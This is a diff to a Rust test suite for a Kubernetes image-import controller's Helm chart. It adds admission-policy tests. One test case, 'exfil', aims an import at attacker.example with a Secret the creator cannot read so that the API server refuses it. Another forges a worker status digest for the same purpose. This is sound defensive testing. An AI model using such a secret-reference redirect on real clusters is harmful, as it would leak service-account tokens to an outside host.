@@ -232,6 +232,8 @@ fn chart_renders_and_values_reach_the_controller() {
             "RoleBinding",
             "Service",
             "ServiceAccount",
+            "ValidatingAdmissionPolicy",
+            "ValidatingAdmissionPolicyBinding",
         ]
         .into_iter()
         .map(String::from)
@@ -245,7 +247,12 @@ fn chart_renders_and_values_reach_the_controller() {
         );
         if !matches!(
             o["kind"].as_str(),
-            Some("ClusterRole" | "ClusterRoleBinding")
+            Some(
+                "ClusterRole"
+                    | "ClusterRoleBinding"
+                    | "ValidatingAdmissionPolicy"
+                    | "ValidatingAdmissionPolicyBinding"
+            )
         ) {
             assert_eq!(o["metadata"]["namespace"], RELEASE_NS, "{o:#}");
         }
@@ -279,10 +286,45 @@ fn chart_renders_and_values_reach_the_controller() {
             "--worker-memory-request=64Mi",
             "--worker-memory-limit=256Mi",
             "--worker-deadline-seconds=21600",
+            "--worker-ttl-seconds=86400",
+            "--max-attempts=8",
             "--metrics-bind-address=0.0.0.0:8080",
             "--leader-elect",
             "--lease-duration-seconds=15",
         ]
+    );
+    // Worker Pod settings travel as one JSON flag, which the binary parses.
+    let with_pod = render(&[
+        "--set",
+        "controller.worker.pod.nodeSelector.pool=imports,controller.worker.pod.priorityClassName=batch",
+        "--set-string",
+        "controller.worker.pod.annotations.sidecar\\.istio\\.io/inject=false",
+        "--set",
+        "controller.worker.pod.env[0].name=HTTPS_PROXY,controller.worker.pod.env[0].value=http://proxy:3128",
+    ]);
+    let pod_arg = args(&with_pod)
+        .into_iter()
+        .find_map(|a| a.strip_prefix("--worker-pod=").map(str::to_string))
+        .expect("--worker-pod");
+    let parsed: Value = serde_json::from_str(&pod_arg).unwrap();
+    assert_eq!(parsed["nodeSelector"]["pool"], "imports");
+    assert_eq!(parsed["annotations"]["sidecar.istio.io/inject"], "false");
+    assert_eq!(parsed["env"][0]["name"], "HTTPS_PROXY");
+    let mut flags = args(&with_pod);
+    flags.push("--help".into());
+    let out = Command::new(bin()).args(&flags).output().unwrap();
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    assert!(
+        render_fails(&[
+            "--set",
+            "controller.worker.pod.env[0].name=IMAGEIMPORT_SPEC"
+        ])
+        .contains("/controller/worker/pod/env/0/name"),
+        "the worker's own inputs cannot be overridden"
     );
     assert_eq!(
         env_value(&objects, "IMAGEIMPORT_LOG_FORMAT").as_deref(),
@@ -342,6 +384,8 @@ fn chart_renders_and_values_reach_the_controller() {
             "--worker-memory-request=100Mi",
             "--worker-memory-limit=1Gi",
             "--worker-deadline-seconds=600",
+            "--worker-ttl-seconds=86400",
+            "--max-attempts=8",
             "--metrics-bind-address=0.0.0.0:9090",
         ]
     );
@@ -511,7 +555,8 @@ async fn every_rendered_object_is_accepted_by_the_api_server() {
         "refused by the API server:\n{}",
         refused.join("\n")
     );
-    assert_eq!(accepted, 8 + 7 + 1, "objects rendered and applied");
+    // + 4: the two admission policies and their bindings.
+    assert_eq!(accepted, 12 + 11 + 5, "objects rendered and applied");
     // Dry-run: nothing was created.
     let sas: Api<ServiceAccount> = Api::namespaced(client.clone(), RELEASE_NS);
     assert!(sas.get_opt(CONTROLLER_SA).await.unwrap().is_none());
@@ -943,7 +988,7 @@ async fn controller_runs_with_exactly_the_chart_rbac() {
             .get(WORKER_SA)
             .await
             .unwrap();
-        // Only `patch` of the status: the worker applies progress and result, never reads.
+        // Only `patch` of the status: the worker applies its progress, never reads.
         let rules = role.rules.unwrap();
         assert_eq!(rules.len(), 1);
         assert_eq!(rules[0].resources, Some(vec!["imageimports/status".into()]));
@@ -1018,4 +1063,295 @@ async fn controller_runs_with_exactly_the_chart_rbac() {
             "the controller was refused something ({needle}):\n{text}"
         );
     }
+}
+
+// ----- admission policy -----
+
+/// An ImageImport in `ns` from a URL, with `spec` merged over the base.
+fn import_object(ns: &str, name: &str, extra_spec: Value) -> DynamicObject {
+    let mut spec = json!({
+        "source": {"url": {"url": "https://artifacts.example/web.tar"}},
+        "target": {"repository": "registry.example/shop/web", "tags": ["1"]}
+    });
+    json_merge(&mut spec, &extra_spec);
+    serde_json::from_value(json!({
+        "apiVersion": "imageimport.dev/v1alpha1", "kind": "ImageImport",
+        "metadata": {"name": name, "namespace": ns},
+        "spec": spec
+    }))
+    .unwrap()
+}
+
+fn json_merge(a: &mut Value, b: &Value) {
+    match (a, b) {
+        (Value::Object(a), Value::Object(b)) => {
+            for (k, v) in b {
+                json_merge(a.entry(k.clone()).or_insert(Value::Null), v);
+            }
+        }
+        (a, b) => *a = b.clone(),
+    }
+}
+
+/// Create (dry-run unless `for_real`) as `client`; the API server's refusal, if any.
+async fn try_create(client: &Client, obj: &DynamicObject, for_real: bool) -> Result<(), String> {
+    let mut pp = PostParams::default();
+    pp.dry_run = !for_real;
+    imageimports(client, obj.metadata.namespace.as_deref().unwrap())
+        .create(&pp, obj)
+        .await
+        .map(|_| ())
+        .map_err(|e| e.to_string())
+}
+
+/// Until the admission policy answers (bindings take effect asynchronously): `attempt` is
+/// retried until it is refused, and the refusal returned.
+async fn first_refusal<F, Fut>(what: &str, mut attempt: F) -> String
+where
+    F: FnMut() -> Fut,
+    Fut: std::future::Future<Output = Result<(), String>>,
+{
+    let deadline = Instant::now() + Duration::from_secs(60);
+    loop {
+        if let Err(e) = attempt().await {
+            return e;
+        }
+        assert!(Instant::now() < deadline, "{what} was never refused");
+        tokio::time::sleep(Duration::from_millis(300)).await;
+    }
+}
+
+/// On the real API server, with the chart's ValidatingAdmissionPolicies: a user who may create
+/// ImageImports but not read Secrets can name no Secret (nor ConfigMap, nor claim) it cannot
+/// read, at creation or by a later spec change; with `get` on one Secret, that one works. And
+/// the worker's identity may write `status.progress` only.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn admission_policy_requires_reading_every_reference() {
+    let objects = render(&[]);
+    let api = cluster().await;
+    let admin = api.client().await;
+    for o in objects.iter().filter(|o| {
+        o["apiVersion"]
+            .as_str()
+            .unwrap()
+            .starts_with("admissionregistration.k8s.io/")
+    }) {
+        apply_object(&admin, o, false).await.unwrap();
+    }
+    let ns = "ci";
+    api.create_namespace(ns).await;
+    // The CI robot: ImageImports yes, Secrets no, except the one it was given.
+    let rbac = |kind: &str, body: Value| -> DynamicObject {
+        let mut v = body;
+        v["apiVersion"] = json!("rbac.authorization.k8s.io/v1");
+        v["kind"] = json!(kind);
+        v["metadata"]["namespace"] = json!(ns);
+        serde_json::from_value(v).unwrap()
+    };
+    let role = |name: &str, rules: Value| {
+        rbac("Role", json!({"metadata": {"name": name}, "rules": rules}))
+    };
+    let bind = |name: &str, subject: Value| {
+        rbac(
+            "RoleBinding",
+            json!({"metadata": {"name": name},
+                   "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": name},
+                   "subjects": [subject]}),
+        )
+    };
+    let robot =
+        json!({"kind": "User", "apiGroup": "rbac.authorization.k8s.io", "name": "ci-robot"});
+    let worker_sa = json!({"kind": "ServiceAccount", "name": WORKER_SA, "namespace": ns});
+    let mut to_create = vec![
+        role(
+            "importer",
+            json!([{"apiGroups": ["imageimport.dev"], "resources": ["imageimports"],
+                                  "verbs": ["create", "get", "patch", "update"]}]),
+        ),
+        bind("importer", robot.clone()),
+        role(
+            "given-token",
+            json!([{"apiGroups": [""], "resources": ["secrets"],
+                                     "resourceNames": ["given-token"], "verbs": ["get"]}]),
+        ),
+        bind("given-token", robot),
+        role(
+            WORKER_SA,
+            json!([{"apiGroups": ["imageimport.dev"], "resources": ["imageimports/status"],
+                                "verbs": ["patch"]}]),
+        ),
+        bind(WORKER_SA, worker_sa),
+    ];
+    for o in to_create.drain(..) {
+        let kind = o.types.as_ref().unwrap().kind.clone();
+        let resource = if kind == "Role" {
+            ApiResource::erase::<Role>(&())
+        } else {
+            ApiResource::erase::<RoleBinding>(&())
+        };
+        Api::<DynamicObject>::namespaced_with(admin.clone(), ns, &resource)
+            .create(&PostParams::default(), &o)
+            .await
+            .unwrap();
+    }
+    let sa: ServiceAccount =
+        serde_json::from_value(json!({"metadata": {"name": WORKER_SA}})).unwrap();
+    Api::<ServiceAccount>::namespaced(admin.clone(), ns)
+        .create(&PostParams::default(), &sa)
+        .await
+        .unwrap();
+    let ci = api.impersonating_client("ci-robot", &[]).await;
+
+    // A ServiceAccount token's Secret the robot cannot read, sent as a Bearer token to a host
+    // of its choosing: refused, saying why.
+    let exfil = import_object(
+        ns,
+        "exfil",
+        json!({"source": {"url": {"url": "https://attacker.example/x.tar", "secretRef": {"name": "sa-token"}}}}),
+    );
+    let refusal = first_refusal("a secretRef the creator cannot read", || {
+        try_create(&ci, &exfil, false)
+    })
+    .await;
+    assert!(
+        refusal.contains("spec.source.url.secretRef") && refusal.contains("sa-token"),
+        "{refusal}"
+    );
+    for (what, spec) in [
+        (
+            "credentialsSecretRef",
+            json!({"target": {"credentialsSecretRef": {"name": "regcred"}}}),
+        ),
+        (
+            "url.caBundleRef",
+            json!({"source": {"url": {"caBundleRef": {"name": "ca", "key": "ca.crt"}}}}),
+        ),
+        (
+            "target.caBundleRef",
+            json!({"target": {"caBundleRef": {"name": "ca", "key": "ca.crt"}}}),
+        ),
+        (
+            "pvc.claimName",
+            json!({"source": {"url": null, "pvc": {"claimName": "deliveries", "path": "a.tar"}}}),
+        ),
+    ] {
+        let mut obj = import_object(ns, "x", spec);
+        if what == "pvc.claimName" {
+            obj.data["spec"]["source"]
+                .as_object_mut()
+                .unwrap()
+                .remove("url");
+        }
+        let e = try_create(&ci, &obj, false).await.unwrap_err();
+        assert!(
+            e.contains(what) && e.contains("you may not get"),
+            "{what}: {e}"
+        );
+    }
+    // The Secret it was given, and no reference at all: accepted.
+    let given = import_object(
+        ns,
+        "given",
+        json!({"source": {"url": {"secretRef": {"name": "given-token"}}}}),
+    );
+    try_create(&ci, &given, false).await.unwrap();
+    try_create(&ci, &import_object(ns, "plain", json!({})), true)
+        .await
+        .unwrap();
+    // A spec change is checked as a creation is; a label is not a spec change.
+    let by_admin = import_object(
+        ns,
+        "by-admin",
+        json!({"source": {"url": {"secretRef": {"name": "sa-token"}}}}),
+    );
+    try_create(&admin, &by_admin, true).await.unwrap();
+    let imports = imageimports(&ci, ns);
+    imports
+        .patch(
+            "by-admin",
+            &PatchParams::default(),
+            &Patch::Merge(&json!({"metadata": {"labels": {"team": "ci"}}})),
+        )
+        .await
+        .unwrap();
+    let e = imports
+        .patch(
+            "by-admin",
+            &PatchParams::default(),
+            &Patch::Merge(
+                &json!({"spec": {"source": {"url": {"url": "https://attacker.example/y.tar"}}}}),
+            ),
+        )
+        .await
+        .unwrap_err()
+        .to_string();
+    assert!(e.contains("sa-token"), "{e}");
+
+    // The worker's identity: progress yes, anything else of the status no.
+    let worker = api.service_account_client(ns, WORKER_SA).await;
+    let as_worker = imageimports(&worker, ns);
+    let apply = |status: Value| {
+        let as_worker = as_worker.clone();
+        async move {
+            as_worker
+                .patch_status(
+                    "plain",
+                    &PatchParams::apply("imageimport-worker-progress").force(),
+                    &Patch::Apply(&json!({"apiVersion": "imageimport.dev/v1alpha1",
+                                          "kind": "ImageImport", "status": status})),
+                )
+                .await
+                .map(|_| ())
+                .map_err(|e| e.to_string())
+        }
+    };
+    let forged = format!("sha256:{}", "f".repeat(64));
+    let e = first_refusal("a status write of the worker beyond progress", || {
+        apply(json!({"digest": forged}))
+    })
+    .await;
+    assert!(e.contains("status.progress only"), "{e}");
+    let ready = json!({"conditions": [{"type": "Ready", "status": "True", "reason": "Succeeded",
+        "message": "forged", "lastTransitionTime": "2026-01-01T00:00:00Z"}]});
+    assert!(apply(ready).await.is_err());
+    apply(json!({"progress": {"bytesDone": 5, "bytesTotal": 10, "phase": "pushing"}}))
+        .await
+        .unwrap();
+    let st = imageimports(&admin, ns).get_status("plain").await.unwrap();
+    assert_eq!(st.data["status"]["progress"]["bytesDone"], 5);
+    assert!(st.data["status"].get("digest").is_none());
+}
+
+/// The worker-progress-only rule names every status field of the CRD except `progress`: a
+/// field added to the status without adding it there would be writable by the worker.
+#[test]
+fn the_worker_rule_covers_every_status_field() {
+    let objects = render(&[]);
+    let rule = objects
+        .iter()
+        .find(|o| {
+            o["kind"] == "ValidatingAdmissionPolicy"
+                && o["metadata"]["name"]
+                    .as_str()
+                    .unwrap()
+                    .ends_with("worker-progress-only")
+        })
+        .expect("the worker rule")["spec"]["validations"][0]["expression"]
+        .as_str()
+        .unwrap()
+        .to_string();
+    let crd: Value = serde_yaml::from_str(&std::fs::read_to_string(CRD).unwrap()).unwrap();
+    let props = crd["spec"]["versions"][0]["schema"]["openAPIV3Schema"]["properties"]["status"]
+        ["properties"]
+        .as_object()
+        .unwrap();
+    for field in props.keys().filter(|k| *k != "progress") {
+        let plain = format!("object.?status.?{field} == oldObject.?status.?{field}");
+        let defaulted = format!("object.?status.?{field}.orValue(");
+        assert!(
+            rule.contains(&plain) || rule.contains(&defaulted),
+            "status.{field} is not in the worker rule: {rule}"
+        );
+    }
+    assert!(!rule.contains("?progress"));
 }
